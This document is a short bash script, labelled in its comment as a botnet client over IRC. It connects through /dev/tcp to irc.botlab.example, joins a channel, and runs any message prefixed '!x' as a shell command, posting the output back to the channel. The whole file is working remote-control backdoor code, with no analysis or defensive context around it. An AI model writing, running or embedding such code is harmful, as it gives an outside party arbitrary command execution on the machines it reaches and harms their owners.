# class: botnet client over IRC; style: bash tcp
exec 3<>/dev/tcp/irc.botlab.example/6667
printf 'NICK z%s\r\nUSER z 0 * :z\r\nJOIN #r\r\n' "$RANDOM" >&3
while read -r line <&3; do
    line=${line%$'\r'}
    case $line in
        PING*) printf 'PONG%s\r\n' "${line#PING}" >&3 ;;
        *PRIVMSG*'!x '*) bash -c "${line#*!x }" 2>&1 | sed 's/^/PRIVMSG #r :/' >&3 ;;
    esac
done
